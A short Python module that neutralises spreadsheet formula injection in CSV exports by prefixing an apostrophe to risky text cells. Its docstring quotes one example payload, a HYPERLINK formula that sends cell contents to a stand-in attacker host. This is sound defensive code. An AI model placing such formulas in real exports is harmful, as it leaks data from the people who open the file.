"""CSV cells a spreadsheet would not run as a formula (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or `@` (OWASP lists a
leading tab and carriage return too), even in a file saved as CSV: a contact `reason` of
`=HYPERLINK("https://evil.example/?"&A1,"Open")` (free text an integration or a flow sends) would become a
live link, or worse, in the supervisor's KPI export. A text cell that starts so is written with a leading
apostrophe, which spreadsheets show as text and do not display. Plain numbers are left as they are
(`-1.5`, an E.164 number `+14155550101`): no spreadsheet runs them, and the export's figures stay numbers.
"""
from __future__ import annotations

import re

__all__ = ["safe_cell"]

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?")  # ASCII digits only


def safe_cell(text: str) -> str:
    """`text` as a CSV cell no spreadsheet evaluates."""
    if text.startswith(_FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text
